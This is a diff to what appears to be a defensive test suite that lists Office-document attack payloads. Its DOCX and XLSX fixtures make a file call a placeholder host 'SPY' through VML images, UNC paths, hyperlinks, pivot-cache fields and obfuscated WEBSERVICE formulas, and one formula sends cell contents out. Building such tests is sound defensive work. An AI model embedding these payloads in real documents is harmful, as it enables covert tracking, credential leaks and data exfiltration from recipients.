@@ -135,7 +135,16 @@ ATTACKS: dict[str, Attack] = {
     "a picture of VML": _letter(f'<w:pict><v:imagedata xmlns:v="urn:v" src="http://{SPY}/a.png"/></w:pict>'),
     "a filling of VML": _letter(f'<w:pict><v:fill xmlns:v="urn:v" xmlns:o="urn:o" o:althref="http://{SPY}/a"/></w:pict>'),
     "a picture that is drawn": Attack("surat.docx", "word/media/a.svg", "", f'<svg><image href="http://{SPY}/a"/></svg>'),
+    "who may write here": _letter(f'<w:permStart w:id="1" w:ed="{SPY}"/><w:permEnd w:id="1"/>'),
+    "a picture described by its place": _letter(f'<wp:docPr xmlns:wp="urn:wp" descr="C:\\Users\\{SPY}\\foto.jpg"/>'),
+    "a place in a link": _letter(f'<w:hyperlink w:docLocation="\\\\{SPY}\\a"><w:r><w:t>a</w:t></w:r></w:hyperlink>'),
+    "a share with one slash": _relation("hyperlink", f"\\/{SPY}/a"),
     # Excel
+    "who refreshed a table": Attack(
+        "daftar.xlsx", "xl/pivotCache/pivotCacheDefinition1.xml", "", f'<pivotCacheDefinition refreshedBy="{SPY}"/>'),
+    "whose view it is": _workbook(f'<customWorkbookViews><customWorkbookView name="{SPY}"/></customWorkbookViews>'),
+    "where it publishes itself": _workbook(
+        f'<webPublishObjects><webPublishObject destinationFile="\\\\{SPY}\\a.htm"/></webPublishObjects>'),
     "WEBSERVICE": _cell(f'WEBSERVICE("http://{SPY}/"&amp;A1)'),
     "WEBSERVICE, split": _cell(f'WEB<!-- -->SERVICE("http://{SPY}/")'),
     "WEBSERVICE by number": _cell(f'_xlfn.WEB&#83;ERVICE("http://{SPY}/")'),
